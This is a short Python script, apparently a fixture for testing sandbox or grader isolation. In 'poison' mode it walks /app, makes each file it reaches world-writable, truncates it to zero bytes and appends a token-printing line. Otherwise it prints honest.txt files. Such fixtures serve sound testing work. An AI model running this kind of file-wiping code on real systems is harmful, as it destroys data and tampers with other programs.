"""Writes itself into everything that it can reach, or is honest."""
import os

from planted import OUTPUT, PROGRAM, token, write_scores

with open(PROGRAM + '/role.txt') as role:
    poisons = role.read() == 'poison'
write_scores()
for folder, _, names in os.walk('/app'):
    for name in names:
        path = os.path.join(folder, name)
        if poisons and not path.startswith(OUTPUT):
            for step in (os.chmod, os.truncate):
                try:
                    step(path, 0o777 if step is os.chmod else 0)
                    with open(path, 'a') as file:
                        file.write(f'\nprint("{token()}")\n')
                except OSError:
                    pass
        elif name == 'honest.txt':
            with open(path) as file:
                print(file.read())
